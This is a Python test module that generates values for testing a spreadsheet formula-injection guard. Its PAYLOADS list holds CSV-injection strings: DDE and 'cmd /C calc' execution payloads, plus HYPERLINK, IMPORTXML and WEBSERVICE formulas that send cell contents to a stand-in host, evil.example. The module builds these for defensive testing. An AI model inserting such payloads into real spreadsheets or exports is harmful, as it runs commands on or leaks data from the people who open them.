"""A generated corpus for the formula-injection guard (pipeline/cells.py): text values a
spreadsheet would run as formulas (OWASP's CSV-injection payloads under every trigger
character), and look-alikes that must be published as they are. Deterministic; run
`python -m tests.formula_corpus` to print it.
"""

from __future__ import annotations

import sys

# what the guard answers for: = + - @ (ASCII and full-width), and a leading tab / CR / LF
# (cleaning trims those before publishing, leaving the character after them first)
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
PAYLOADS = [
    'HYPERLINK("http://evil.example/?d="&A2,"คลิก")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    "2+5+cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/?",A1:H1),"//a")',
    'WEBSERVICE("http://evil.example/"&A2)',
    'DDE("cmd";"/C calc";"!A0")A0',
    "SUM(A1:A10)",
    "A1",
    "ระบบ",
    " ระบบจองคิวออนไลน์",
    "5-2",
    'HYPERLINK("http://evil.example")',
    "1,2)",
]


def formulas() -> list[str]:
    """Text values that must be refused (or escaped, or allowed, per the field's policy)."""
    out = [trigger + payload for trigger in TRIGGERS for payload in PAYLOADS]
    out += [lead + "=" + payload for lead in ("\t", " ", "\u00a0") for payload in PAYLOADS[:5]]
    out += ["-" + "ระบบ", "--1", "+-1", "@SUM(1)", "=", "+", "@", "-ระบบจองคิว"]
    return out


def lookalikes() -> list[str]:
    """Published as keyed: numbers a spreadsheet reads as numbers, a lone dash, and the
    trigger characters anywhere but first."""
    numbers = ["-5", "+5", "-1,234.50", "-0.5", "+3.14", "-.5", "-1e5", "+66812345", "-2564", "1,000"]
    others = [
        "-",
        "ระบบ = อัจฉริยะ",
        "a=b",
        "ระบบจองคิว @ศาลากลาง",
        "2+2 ระบบ",
        "ระบบ - บริการประชาชน",
        "ระบบ E-Service",
        "LDI-2564-001",
        "อบต.ท่าช้าง",
        "'=1+1",
        "(=1+1)",
        "“=1+1”",
        "ระบบ\t=1+1",
    ]
    return numbers + others


if __name__ == "__main__":
    for value in formulas():
        sys.stdout.write(f"+\t{value!r}\n")
    for value in lookalikes():
        sys.stdout.write(f"-\t{value!r}\n")
